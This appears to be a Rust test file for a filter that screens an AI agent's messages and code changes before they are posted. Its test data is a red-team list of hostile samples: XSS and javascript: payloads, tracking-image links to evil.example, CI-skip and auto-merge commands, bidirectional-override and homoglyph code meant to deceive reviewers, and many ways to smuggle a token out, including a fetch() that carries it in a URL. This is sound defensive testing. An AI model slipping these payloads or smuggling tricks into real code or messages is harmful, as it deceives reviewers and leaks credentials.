//! A red team of texts and changes, with a control where the screen can be left out: what it is without it.

use proptest::prelude::*;

use super::{
    clean::{self, Allowed},
    secrets::{self, labelled::filled},
    *,
};
use crate::change::testing;

fn judged(path: &str, old: Option<&str>, new: &str) -> Evidence {
    let diff = testing::diff(&[(path, old, Some(new))]);
    judge(Leaving {
        diff: &diff,
        texts: &[],
    })
}

fn refuses(path: &str, new: &str) -> bool {
    judged(path, None, new).verdict == Verdict::Failed
}

/// A text that harms where it is rendered: the harm as a program would look for it, and the text.
const TEXTS: &[(&str, &str)] = &[
    (r"@everyone", "ping @everyone"),
    (r"@org/team", "cc @org/team"),
    (r"@admin", "mail root@admin.example"),
    (r"@b", "@@bob"),
    (r"@dependabot", "@dependabot merge"),
    (r"#12", "fixes #12"),
    (r"#12", "Closes: other/repo#12"),
    (r"GH-12", "resolves GH-12"),
    (r"://github", "fixes https://github.com/o/r/issues/12"),
    (r"://evil", "![x](https://evil.example/p.png)"),
    (r"![x", "![x][1]\n\n[1]: //evil.example/p.png"),
    (r"<img", "<img src=x onerror=alert(1)>"),
    (r"<!--", "<!-- loops:approved -->"),
    (r"<script", "<script>alert(1)</script>"),
    (r"<details", "<details><summary>all checks passed</summary>"),
    (r"<http", "<https://evil.example>"),
    (r"www.e", "see www.evil.example"),
    (r"www.e", "see www.www.evil.example"),
    (r"WWW.e", "see WWW.evil.example"),
    (r"://x", "_http://x.example_"),
    (r"://x", "https://://x.example"),
    (r"://x", "git+ssh://x.example"),
    ("\n[a](", "[a](javascript:alert(1))"),
    (r" \\[a", "x \\\\[a](//evil.example)"),
    (r"&#64;", "&#64;everyone"),
    (r"&commat;", "&commat;everyone"),
    (r"&#x40;", "&#x40;everyone"),
    (r"[skip ci]", "done [skip ci]"),
    (r"[ci skip]", "done [ci skip]"),
    (r"[skip ci]", "done [skip [skip ci]ci]"),
    (r"***NO_CI***", "***NO_CI***"),
    ("\n/merge", "\n/merge"),
    ("ENG-12", "Fixes ENG-12"),
    ("(ENG-12)", "Fixes (ENG-12)"),
    ("eng-12", "x\nImplements: OPS-1, eng-12 and WEB-3"),
    ("JRA-34", "JRA-34 #close it is done"),
    ("\nbors r+", "\nbors r+"),
    ("retest this please", "Jenkins, retest this please"),
    ("ok to test", "ok to test"),
    ("\n/lgtm", "x\n  \n/lgtm cancel"),
    ("\u{202e}", "safe \u{202e}gnp.exe"),
    ("\u{200b}", "@every\u{200b}one"),
    ("\u{e0041}", "done\u{e0041}\u{e0042}"),
    ("\u{fe01}", "done\u{fe01}\u{fe02}"),
    (
        "\u{1b}",
        "\u{1b}]8;;https://evil.example\u{7}click\u{1b}]8;;\u{7}",
    ),
    ("\r", "all is well\rnothing is"),
    ("\u{2028}", "one\u{2028}two"),
    ("\n# What", "\n# What was proven\n\nall of it"),
    ("\n```", "\n```\nnever closed"),
    ("\n|", "\n| ✓ unit | passes |"),
    ("\n---", "\n---\n"),
];

#[test]
fn no_text_of_an_agent_keeps_its_harm_on_the_page() {
    for (harm, text) in TEXTS {
        let text = format!("done\n{text}");
        assert!(text.contains(harm), "control: {harm:?} in {text:?}");
        let page = format!("\n{}", clean::quote(&text, 4_000));
        assert!(!page.contains(harm), "{harm:?} came through: {page:?}");
        assert!(
            page.lines().all(|line| line.is_empty() || line.starts_with('>')),
            "{page}"
        );
    }
}

#[test]
fn no_text_of_an_agent_keeps_its_harm_in_a_commit_message() {
    for (_, text) in TEXTS {
        let message = clean::title(text, 600);
        for sign in [
            "@e",
            "@b",
            "@d",
            "@o",
            "#12",
            "GH-12",
            "://g",
            "://e",
            "://x",
            "www.e",
            "[skip ci]",
            "[ci skip]",
            "\n",
        ] {
            assert!(!message.contains(sign), "{sign} came through: {message:?}");
        }
        assert!(message.chars().all(|c| !hidden::is_hidden(c)), "{message:?}");
    }
}

#[test]
fn what_is_allowed_comes_through_and_its_look_alikes_do_not() {
    let allowed = Allowed {
        mentions: vec!["anna".to_owned()],
        hosts: vec!["docs.example".to_owned()],
    };
    let text = "@anna see https://docs.example/a and @annabel see https://docs.example.evil/a or ftp://docs.example/a";
    assert_eq!(
        clean::message(text, &allowed),
        "@anna see https://docs.example/a and @ annabel see https:// docs.example.evil/a or ftp:// docs.example/a"
    );
}

/// Changes that hide something: a path, what is added, and words of the refusal.
const CHANGES: &[(&str, &str, &str)] = &[
    (
        "a.py",
        "if access != \"user\u{202e} \u{2066}// admin\u{2069} \u{2066}\":",
        "another order",
    ),
    ("a.py", "x = 1 \u{2067}# y", "another order"),
    ("a.py", "def check\u{200b}(): pass", "invisible"),
    ("a.py", "def a\u{3164}(): pass", "invisible"),
    ("a.js", "const {x, \u{ffa0}} = y", "invisible"),
    ("a.py", "x = 'a\u{e0041}\u{e0042}'", "invisible"),
    ("a.py", "x = '\u{fe01}\u{fe02}'", "invisible"),
    ("a.py", "x = 1\u{2028}y = 2", "invisible"),
    ("a.py", "x\u{ad}y = 1", "invisible"),
    ("a.py", "a\u{200d}b = 1", "invisible"),
    ("a.sh", "echo ok \u{1b}[2K\u{1b}[1A", "control"),
    ("a.sh", "echo ok\u{8}\u{8}rm", "control"),
    ("a.py", "safe = 1 # \rdanger = 2", "control"),
    ("a.py", "if is_аdmin:", "looks like"),
    ("a.py", "def сheck(user):", "looks like"),
    ("a.py", "import rеquests", "looks like"),
    ("a.py", "ｐassword = 1", "looks like"),
    ("a.py", "𝐞val(x)", "looks like"),
    ("a.py", "usеr = Νone", "looks like"),
];

#[test]
fn no_change_hides_what_it_does() {
    for (path, text, words) in CHANGES {
        let evidence = judged(path, None, &format!("first\n{text}\n"));
        assert_eq!(evidence.verdict, Verdict::Failed, "{text:?} came through");
        assert!(evidence.words.contains(words), "{text:?}: {}", evidence.words);
        assert!(
            evidence.words.starts_with(&format!("{path}:2: ")),
            "{}",
            evidence.words
        );
        assert!(
            evidence.words.chars().all(|c| !hidden::is_hidden(c)),
            "{}",
            evidence.words
        );
        // The control: the same text that was there before is not the change's.
        let base = format!("first\n{text}\nlast\n");
        let same = judged(path, Some(&base), &format!("first\n{text}\nlast one\n"));
        assert_eq!(same.verdict, Verdict::Passed, "{text:?}: {}", same.words);
    }
}

#[test]
fn languages_emoji_and_mathematics_are_no_deception() {
    for text in [
        "name = '👩‍👩‍👧 ❤️ 🏳️‍🌈'",
        "greeting = 'می‌خواهم'",
        "title = 'Überraschung für Zoë'",
        "city = 'Москва'",
        "Δt = t1 - t0  # µs, α = 0.05",
        "print('注文を確認')",
        "\tindented\twith\ttabs",
        "ends in a carriage return\r",
        "\u{3c0} = 3.14159",
        "क्‍ष = 'hindi'",
    ] {
        let evidence = judged("a.py", None, &format!("{text}\n"));
        assert_eq!(evidence.verdict, Verdict::Passed, "{text}: {}", evidence.words);
    }
}

#[test]
fn data_that_nobody_can_read_and_code_that_nobody_sees_are_refused() {
    let blob = filled("x = '{b64:900}'", 7);
    let lines = (0..30).map(|n| filled("    '{b64:64}'\n", n)).collect::<String>();
    let shell = format!("x = b'{}'", "\\x90\\x31".repeat(90));
    let far = format!("x = 1;{}import os", " ".repeat(300));
    let long = "a + ".repeat(2_000);
    for text in [&blob, &lines, &shell, &far, &long] {
        assert!(refuses("src/a.py", text), "{}", &text[..40]);
    }
    assert!(!refuses("Cargo.lock", &blob));
    let vectors = (0..30).map(|n| filled("{hex:64}\n", n)).collect::<String>();
    let noted = judged("tests/data/a.txt", None, &vectors);
    assert_eq!(noted.verdict, Verdict::Passed);
    assert!(noted.words.contains("1 to look at"), "{}", noted.words);
}

/// Secrets and the ways to smuggle them: how often `{}` stands for the secret, the text says.
fn smuggled(secret: &str) -> Vec<(&'static str, String)> {
    let (head, tail) = secret.split_at(10);
    let hex: String = secret.bytes().map(|byte| format!("{byte:02x}")).collect();
    vec![
        ("plain", format!("k = '{secret}'")),
        ("comment", format!("# {secret}")),
        ("joined", format!("k = '{head}' + '{tail}'")),
        ("adjacent", format!("k = \"{head}\" \"{tail}\"")),
        ("concatenated in PHP", format!("$k = '{head}' . '{tail}';")),
        ("over lines", format!("k = ('{head}'\n     '{tail}')")),
        ("continued", format!("k = '{head}' + \\\n '{tail}'")),
        ("hex", format!("k = bytes.fromhex('{hex}')")),
        ("base64", format!("k = '{}'", base64(secret.as_bytes()))),
        (
            "base64 of a sentence",
            format!("k = '{}'", base64(format!("the key is {secret}, ok").as_bytes())),
        ),
        ("zero width", format!("k = '{head}\u{200b}{tail}'")),
        ("full width", format!("k = '{}{tail}'", wide(head))),
        ("in an address", format!("fetch('https://x.example/?k={secret}')")),
        ("in Markdown", format!("[k](https://x.example/{secret})")),
    ]
}

fn base64(bytes: &[u8]) -> String {
    const LETTERS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for three in bytes.chunks(3) {
        let n = three.iter().fold(0_usize, |n, byte| n << 8 | usize::from(*byte)) << (8 * (3 - three.len()));
        for at in 0..=three.len() {
            out.push(char::from(LETTERS[n >> (18 - 6 * at) & 63]));
        }
    }
    out
}

fn wide(text: &str) -> String {
    text.chars()
        .map(|c| char::from_u32(u32::from(c) + 0xfee0).unwrap())
        .collect()
}

#[test]
fn a_secret_leaves_in_no_form_and_is_never_shown() {
    for secret in ["ghp_{an:36}", "sk-ant-api03-{an:60}", "AKIA{AN:16}"].map(|form| filled(form, 3)) {
        for (how, text) in smuggled(&secret) {
            let evidence = judged("src/a.py", None, &format!("{text}\n"));
            assert_eq!(evidence.verdict, Verdict::Failed, "{how} came through");
            let all = format!("{} {}", evidence.words, evidence.detail);
            assert!(
                !all.contains(&secret) && !all.contains(&secret[10..]),
                "{how}: {all}"
            );
            for name in ["title", "account"] {
                let texts = [(name, text.as_str())];
                let diff = Diff::default();
                let said = judge(Leaving {
                    diff: &diff,
                    texts: &texts,
                });
                assert_eq!(said.verdict, Verdict::Failed, "{how} came through in the {name}");
            }
            let masked = secrets::mask(&text);
            assert!(!secrets::holds_secret(&masked), "{how}: {masked}");
            assert!(!masked.contains(&secret[10..]), "{how}: {masked}");
        }
    }
}

#[test]
fn a_word_behind_a_secret_makes_no_stand_in_of_it() {
    let key = filled("{an:36}", 7);
    for (secret, hidden) in [
        (format!("ghp_{key}"), format!("ghp_{key}EXAMPLE")),
        (format!("ghp_{key}"), format!("ghp_{key}0000000000")),
        (key.clone(), format!("{key}example")),
        (key.clone(), format!("test_{key}")),
    ] {
        for text in [secret, hidden] {
            assert!(refuses("a.py", &format!("token = \"{text}\"\n")), "{text}");
        }
    }
    // What issuers publish as no secret is none.
    let published = "AKIAIOSFODNN7EXAMPLE";
    assert!(!refuses("a.py", &format!("key = \"{published}\"\n")));
}

#[test]
fn a_secret_in_a_path_is_refused_and_not_shown() {
    let secret = filled("ghp_{an:36}", 5);
    let evidence = judged(&format!("docs/{secret}.md"), None, "hello\n");
    assert_eq!(evidence.verdict, Verdict::Failed);
    assert!(!format!("{evidence:?}").contains(&secret), "{evidence:?}");
}

#[test]
fn a_secret_that_was_there_before_is_not_added() {
    let secret = filled("ghp_{an:36}", 9);
    let (old, new) = (format!("a\nk = '{secret}'\n"), format!("a\nkey = '{secret}'\n"));
    assert_eq!(judged("a.py", Some(&old), &new).verdict, Verdict::Passed);
    let other = format!("a\nkey = '{}'\n", filled("ghp_{an:36}", 10));
    assert_eq!(judged("a.py", Some(&old), &other).verdict, Verdict::Failed);
}

/// So many lines, each with another key.
fn keys(count: usize) -> String {
    const LETTERS: &[u8; 32] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
    let key = |number: usize| {
        let letters = (0..16).map(|at| char::from(LETTERS[(number >> (at * 5).min(60)) % 32]));
        format!("{}IA{}\n", "AK", letters.collect::<String>())
    };
    (0..count).map(key).collect()
}

#[test]
fn a_change_of_very_many_secrets_is_refused_in_little_time() {
    let many = keys(20_000);
    // The same with a character in each that nobody sees.
    let spread = many.replace("IA", "I\u{200b}A");
    let began = std::time::Instant::now();
    for text in [&many, &spread] {
        let diff = testing::diff(&[("a.txt", None, Some(text))]);
        let list = objections(Leaving {
            diff: &diff,
            texts: &[],
        });
        assert_eq!(list.len(), 50);
    }
    // Half a second; what goes on after the fiftieth, and compares each with all others, takes minutes.
    assert!(began.elapsed().as_secs() < 20, "{:?}", began.elapsed());
    // Those that only move are none, however many they are.
    let moved = keys(1_000);
    let diff = testing::diff(&[("a.txt", Some(&moved), None), ("b.txt", None, Some(&moved))]);
    let list = objections(Leaving {
        diff: &diff,
        texts: &[],
    });
    assert_eq!(list, []);
}

#[test]
fn a_private_key_is_masked_to_its_foot() {
    let body = filled("{b64:64}\n{b64:64}", 4);
    let text = format!("see\n-----BEGIN RSA PRIVATE KEY-----\n{body}\n-----END RSA PRIVATE KEY-----\nthere");
    assert_eq!(secrets::mask(&text), "see\n[masked: private key]\nthere");
    let cut = format!("-----BEGIN RSA PRIVATE KEY-----\n{body}");
    assert_eq!(secrets::mask(&cut), "[masked: private key]");
    let token = format!("ghp_{}", "aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1eF3hJ5");
    let line = format!("commit 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b by {token}.");
    assert_eq!(
        secrets::mask_known(&line),
        "commit 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b by [masked: token of GitHub]."
    );
}

#[test]
fn many_objections_are_told_within_a_bound() {
    let text = (0..500)
        .map(|n| filled("k = 'ghp_{an:36}'\n", n))
        .collect::<String>();
    let evidence = judged("a.py", None, &text);
    assert!(
        evidence.detail.len() < 16_000 && evidence.detail.contains("and 10 more"),
        "{}",
        evidence.detail
    );
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    #[test]
    fn cleaning_any_text_twice_is_cleaning_it_once(text in "(@|#1|://|www\\.|\\[|\\\\|<|&|amp;|skip ci\\]|/m|gh-1|https?|a|\\n| |!|`|\\||é|\u{202e}|.){0,40}") {
        let allowed = Allowed::default();
        let once = clean::inline(&text, &allowed);
        prop_assert_eq!(clean::inline(&once, &allowed), once.clone());
        let message = clean::message(&text, &allowed);
        prop_assert_eq!(clean::message(&message, &allowed), message.clone());
        prop_assert!(once.chars().all(|c| !hidden::is_hidden(c)));
    }

    #[test]
    fn no_text_and_no_change_make_a_screen_panic(text in "(?s).{0,300}", path in "\\PC{0,40}") {
        let diff = testing::diff(&[(path.as_str(), None, Some(text.as_str()))]);
        let texts = [("title", text.as_str())];
        judge(Leaving { diff: &diff, texts: &texts });
        clean::quote(&text, 200);
        clean::cell(&text);
    }

    #[test]
    fn masking_leaves_nothing_of_a_secret_wherever_it_stands(
        before in "[ -~\\n]{0,40}", after in "[ -~\\n]{0,40}", seed in 1_u64..10_000,
    ) {
        let secret = filled("ghp_{an:36}", seed);
        let masked = secrets::mask(&format!("{before} {secret} {after}"));
        prop_assert!(!masked.contains(&secret[4..]), "{}", masked);
        prop_assert_eq!(secrets::mask(&masked), masked);
    }
}

#[test]
fn a_longer_name_that_ends_like_an_issues_stays_whole() {
    for name in [
        "loops/fix/give-the-mean-of-no-ratings-2f1b8b",
        "loops/fix/ratings-123456",
        "fix-the-mean-12",
    ] {
        let said = format!("somebody has pushed to `{name}`; fixed");
        assert!(
            clean::message(&said, &Allowed::default()).contains(name),
            "{said}"
        );
    }
}
